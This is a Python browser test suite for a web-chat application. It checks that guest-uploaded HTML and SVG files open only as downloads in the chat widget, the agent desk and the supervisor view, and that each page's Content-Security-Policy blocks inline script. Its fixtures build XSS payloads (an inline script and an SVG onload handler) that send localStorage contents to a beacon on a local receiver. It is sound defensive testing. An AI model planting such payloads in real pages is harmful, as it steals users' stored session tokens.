"""A web-chat guest (no credentials) sends files that carry script: an HTML page and an SVG drawing. Opened from
the widget, the desk and the supervisor view, in Chromium, neither runs: each downloads. And the three pages'
own Content-Security-Policy runs no inline script, so markup that reaches a page cannot run either.

Each hostile file would call a beacon on a receiver on 127.0.0.1. At the end a control page with the same
beacon is opened, and its call is the barrier: after it has arrived, no hostile file's call ever came.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from playwright.async_api import Download, Locator, Page, expect
from starlette.responses import HTMLResponse, Response

from tests.browser.conftest import Pages
from tests.browser.desk_support import choose_activity, sign_in
from tests.browser.widget_support import open_chat, widget_log
from tests.support.parley import RunningParley
from tests.support.receiver import ReceivedRequest, Receiver
from tests.support.waiting import eventually
from tests.support.web_chat_center import WebChatCenter

expect.set_options(timeout=10_000)

CSP_VIOLATION = "Content Security Policy"


@pytest.fixture
async def beacon() -> AsyncIterator[Receiver]:
    """Counts every script that ran (`/ran?from=…`) and serves the control page that proves the beacon works."""
    def respond(request: ReceivedRequest) -> Response | None:
        if request.path == "/control":
            return HTMLResponse(f"<script>{calls(beacon_receiver, 'control')}</script>")
        return None
    beacon_receiver = Receiver(responder=respond)
    await beacon_receiver.start()
    yield beacon_receiver
    await beacon_receiver.stop()


def calls(beacon: Receiver, origin: str) -> str:
    return f"new Image().src = '{beacon.url}/ran?from={origin}&stored=' + encodeURIComponent(JSON.stringify(localStorage));"


def hostile_files(beacon: Receiver) -> list[dict[str, Any]]:
    html = f"<!doctype html><title>invoice</title><script>{calls(beacon, 'html')}</script>".encode()
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{calls(beacon, "svg-onload")}">'
           f"<script>{calls(beacon, 'svg')}</script><circle r='9'/></svg>").encode()
    return [{"name": "invoice.html", "mimeType": "text/html", "buffer": html},
            {"name": "drawing.svg", "mimeType": "image/svg+xml", "buffer": svg}]


def ran(beacon: Receiver) -> list[str]:
    return [request.url for request in beacon.attempts if request.path == "/ran"]


async def send_with_the_guest_token(web: RunningParley, center: WebChatCenter, widget: Page,
                                    file: dict[str, Any]) -> None:
    stored = await widget.evaluate(f"() => JSON.parse(localStorage.getItem('parley.webchat.{center.address_sid}'))")
    headers = {"X-Twilio-Token": stored["token"]}
    conversation = f"/conversations/v1/Conversations/{stored['conversationSid']}"
    async with httpx.AsyncClient(base_url=web.base_url, headers=headers) as guest:
        service = (await guest.get(conversation)).json()["chat_service_sid"]
        uploaded = await guest.post(f"/mcs/v1/Services/{service}/Media", content=file["buffer"],
                                    headers={"Content-Type": file["mimeType"]}, params={"Filename": file["name"]})
        assert uploaded.status_code == 201, uploaded.text
        sent = await guest.post(f"{conversation}/Messages",
                                data={"Author": stored["identity"], "MediaSid": uploaded.json()["sid"]})
        assert sent.status_code == 201, sent.text


async def opens_as_download(page: Page, link: Locator) -> Download:
    """Click the attachment's link: the tab it opens must end in a download (Chromium then closes the tab and
    hands the download to the page that opened it), never in a rendered document."""
    async with page.expect_download() as started:
        await link.click()
    return await started.value


async def _found(items: list[Download]) -> list[Download]:
    return items


async def inline_script_is_refused(page: Page) -> None:
    """Markup with an inline handler, as a message or a name would carry it, reaches the page: it does not run."""
    outcome = await page.evaluate("""() => new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation",
            (event) => resolve({directive: event.effectiveDirective, ran: Boolean(window.__ran)}), {once: true});
        const holder = document.createElement("div");
        holder.innerHTML = '<img alt="" src="data:," onerror="window.__ran = true">';
        document.body.append(holder);
    })""")
    assert outcome["directive"].startswith("script-src") and outcome["ran"] is False, outcome


async def expect_attachments_open_as_downloads(page: Page, where: Locator) -> None:
    for name in ("invoice.html", "drawing.svg"):
        link = where.get_by_role("link", name=re.compile(re.escape(name)))
        await expect(link).to_have_attribute("href", re.compile("/Content/Direct"))
        await expect(where.get_by_role("img", name=re.compile(re.escape(name)))).to_have_count(0)  # never inline
        download = await opens_as_download(page, link)
        assert download.suggested_filename == name


async def test_a_guests_html_and_svg_files_run_no_script_in_the_widget_the_desk_or_the_supervisor_view(
    pages: Pages, web: RunningParley, center: WebChatCenter, beacon: Receiver
) -> None:
    pages.expect_console_error(CSP_VIOLATION)
    alice = center.agents["alice"]
    desk = await pages.open(f"/desk/?account={alice.account_sid}")
    await sign_in(desk, alice, alice.password)
    await choose_activity(desk, "Available")

    widget = await open_chat(pages, center)
    offer = desk.get_by_role("region", name="Offers").get_by_role("listitem").filter(has_text="Ana Lima")
    await offer.get_by_role("button", name="Accept").click()
    chat = desk.get_by_role("log", name="Messages")
    await expect(chat).to_contain_text("Where is my order?")

    # The guest sends the SVG from the widget (it takes any image), and the HTML as an attacker would: with
    # the guest token the widget keeps, straight to the API the widget uses.
    html, svg = hostile_files(beacon)
    await widget.locator("#parley-attach").set_input_files(files=[svg])
    await send_with_the_guest_token(web, center, widget, html)
    for file in (html, svg):
        await expect(widget_log(widget).get_by_role("link", name=re.compile(re.escape(file["name"])))).to_be_visible()
        await expect(chat.get_by_role("link", name=re.compile(re.escape(file["name"])))).to_be_visible()

    sam = center.agents["sam"]
    supervisor = await pages.open(f"/supervisor/?account={sam.account_sid}")
    await supervisor.get_by_label("Email").fill(sam.email)
    await supervisor.get_by_label("Password").fill(sam.password)
    await supervisor.get_by_role("button", name="Sign in").click()
    await supervisor.get_by_role("button", name="Open the conversation of Alice with Ana Lima").click()
    transcript = supervisor.get_by_role("region", name="Alice with Ana Lima").get_by_role(
        "log", name="Conversation messages")
    await expect(transcript.get_by_role("link", name=re.compile("drawing.svg"))).to_be_visible()
    await pages.screenshot(supervisor, "attachments-as-files")

    for page, where in ((widget, widget_log(widget)), (desk, chat), (supervisor, transcript)):
        await expect_attachments_open_as_downloads(page, where)
        await inline_script_is_refused(page)

    # The barrier: the control page's script ran and called; no hostile file's ever did.
    control = await pages.open(f"{beacon.url}/control")
    await eventually(lambda: _found(ran(beacon)), what="the control page's beacon")
    assert [url for url in ran(beacon) if "from=control" not in url] == []
    await control.close()


@pytest.mark.parametrize("app", ["desk", "supervisor", "webchat"])
async def test_each_page_runs_only_its_own_scripts_says_who_may_frame_it_and_sends_no_referrer(
    web: RunningParley, app: str
) -> None:
    async with httpx.AsyncClient(base_url=web.base_url) as browser:
        for path in (f"/{app}/", f"/{app}/index.html"):
            page = await browser.get(path)
            assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
            policy = dict(part.strip().split(" ", 1) for part in page.headers["content-security-policy"].split(";"))
            assert policy["script-src"] == "'self'" and policy["object-src"] == "'none'"
            assert "unsafe-inline" not in page.headers["content-security-policy"]
            assert policy["frame-ancestors"] == ("'self'" if app == "webchat" else "'none'")
            assert page.headers["referrer-policy"] == "no-referrer"
            assert page.headers["x-content-type-options"] == "nosniff"
            assert "<script>" not in page.text  # nothing inline that the policy would refuse
